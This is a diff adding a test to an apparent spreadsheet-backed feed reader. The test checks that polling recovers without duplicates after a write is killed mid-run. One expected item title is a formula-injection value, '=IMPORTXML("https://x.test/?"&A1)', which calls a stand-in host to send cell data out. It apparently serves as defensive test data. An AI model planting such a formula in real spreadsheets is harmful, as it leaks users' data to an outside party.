@@ -118,6 +118,27 @@ describe('feeds', () => {
   });
 });
 
+describe('a reading that is cut', () => {
+  test.each([1, 2, 3, 4].flatMap((when) => (['before', 'after'] as const).map((at) => [when, at] as const)))(
+    'at write %i, %s it: the next one brings each item once',
+    async (when, at) => {
+      vigie.host.faults.add({ service: 'SpreadsheetApp', method: 'Range.setValues', when, at, do: 'kill' });
+      const cut = await vigie.host.run('pollFeedsNow');
+      vigie.host.faults.clear();
+      expect(cut.ok).toBe(false);
+      await vigie.run('pollFeedsNow');
+      await vigie.run('pollFeedsNow');
+      expect(vigie.rows('À trier').map((row) => row.Titre)).toEqual([
+        'Un',
+        '=IMPORTXML("https://x.test/?"&A1)',
+        'Trois gras',
+      ]);
+      expect(vigie.rows('Vus')).toHaveLength(3);
+      expect(vigie.rows('Flux')).toHaveLength(1);
+    },
+  );
+});
+
 describe('the letter', () => {
   test('on Monday, one to each member, with exactly the week’s clips, observations and articles', async () => {
     const { token } = await vigie.pairedMember('Marie');
